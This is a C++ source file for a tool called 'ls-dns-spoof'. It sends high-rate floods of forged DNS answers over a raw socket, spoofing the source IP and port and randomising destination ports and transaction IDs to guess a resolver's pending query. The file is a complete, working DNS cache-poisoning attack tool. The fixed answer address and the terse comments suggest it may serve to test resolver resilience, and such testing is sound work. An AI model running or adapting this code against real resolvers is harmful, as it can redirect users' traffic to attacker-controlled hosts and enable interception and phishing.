// SPDX-License-Identifier: Apache-2.0
// ls-dns-spoof FROM:PORT TO RATE SECONDS NAME...: forged DNS answers "NAME A 203.0.113.66", from FROM:PORT (which need not
// be ours) to random ports of TO with random ids: everything right but what only the asker knows. IPv4. Prints how many.
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <sys/socket.h>
#include <time.h>

#include <array>
#include <cerrno>
#include <cstddef>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <random>
#include <string>
#include <vector>

namespace {

constexpr size_t kBatch = 64;
constexpr size_t kPort = sizeof(iphdr) + offsetof(udphdr, dest);
constexpr size_t kId = sizeof(iphdr) + sizeof(udphdr);

[[noreturn]] void die(const std::string& what) {
  std::fprintf(stderr, "ls-dns-spoof: %s\n", what.c_str());
  std::exit(2);
}

double now_s() {
  timespec t{};
  clock_gettime(CLOCK_MONOTONIC, &t);
  return double(t.tv_sec) + double(t.tv_nsec) / 1e9;
}

std::vector<uint8_t> forged(in_addr from, uint16_t port, in_addr to, const std::string& name) {
  std::vector<uint8_t> dns(12, 0);
  dns[2] = 0x81, dns[3] = 0x80, dns[5] = 1, dns[7] = 1;
  for (size_t at = 0; at < name.size();) {
    const size_t dot = std::min(name.find('.', at), name.size());
    dns.push_back(uint8_t(dot - at));
    dns.insert(dns.end(), name.begin() + long(at), name.begin() + long(dot));
    at = dot + 1;
  }
  for (uint8_t b : {0, 0, 1, 0, 1, 0xc0, 12, 0, 1, 0, 1, 0, 0, 0x0e, 0x10, 0, 4, 203, 0, 113, 66}) dns.push_back(b);
  iphdr ip{};
  ip.ihl = 5, ip.version = 4, ip.ttl = 64, ip.protocol = IPPROTO_UDP;
  ip.tot_len = htons(uint16_t(sizeof ip + sizeof(udphdr) + dns.size()));
  ip.saddr = from.s_addr, ip.daddr = to.s_addr;
  udphdr udp{};
  udp.source = htons(port);
  udp.len = htons(uint16_t(sizeof udp + dns.size()));  // checksum 0: none
  std::vector<uint8_t> out(sizeof ip + sizeof udp);
  std::memcpy(out.data(), &ip, sizeof ip);
  std::memcpy(out.data() + sizeof ip, &udp, sizeof udp);
  out.insert(out.end(), dns.begin(), dns.end());
  return out;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 6) die("FROM:PORT TO RATE SECONDS NAME...");
  const std::string source = argv[1];
  const size_t colon = source.find(':');
  in_addr from{}, to{};
  if (colon == std::string::npos || inet_pton(AF_INET, source.substr(0, colon).c_str(), &from) != 1) die("FROM:PORT");
  if (inet_pton(AF_INET, argv[2], &to) != 1) die("TO");
  const double rate = std::stod(argv[3]), seconds = std::stod(argv[4]);
  std::vector<std::vector<uint8_t>> kinds;
  for (int i = 5; i < argc; ++i) kinds.push_back(forged(from, uint16_t(std::stoul(source.substr(colon + 1))), to, argv[i]));

  const int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);  // headers are ours
  if (fd < 0) die(std::string("raw socket: ") + std::strerror(errno));
  sockaddr_in there{};
  there.sin_family = AF_INET;
  there.sin_addr = to;
  std::mt19937_64 random(0x5eed);
  std::array<std::vector<uint8_t>, kBatch> packets;
  std::array<iovec, kBatch> parts{};
  std::array<mmsghdr, kBatch> messages{};
  uint64_t sent = 0;
  const double begin = now_s();
  for (double now = begin; now < begin + seconds; now = now_s()) {
    if (double(sent) > (now - begin) * rate) {
      const timespec nap{0, 200'000};
      nanosleep(&nap, nullptr);
      continue;
    }
    for (size_t i = 0; i < kBatch; ++i) {
      const uint64_t r = random();
      packets[i] = kinds[(r >> 40) % kinds.size()];
      const uint16_t port = uint16_t(1024 + (r & 0xffff) % 64512);
      packets[i][kPort] = uint8_t(port >> 8), packets[i][kPort + 1] = uint8_t(port);
      packets[i][kId] = uint8_t(r >> 16), packets[i][kId + 1] = uint8_t(r >> 24);
      parts[i] = {packets[i].data(), packets[i].size()};
      messages[i].msg_hdr = {.msg_name = &there, .msg_namelen = sizeof there, .msg_iov = &parts[i], .msg_iovlen = 1, .msg_control = nullptr,
                             .msg_controllen = 0, .msg_flags = 0};
    }
    const int n = sendmmsg(fd, messages.data(), kBatch, 0);
    if (n > 0) sent += uint64_t(n);
  }
  std::printf("%lu\n", sent);
  return 0;
}
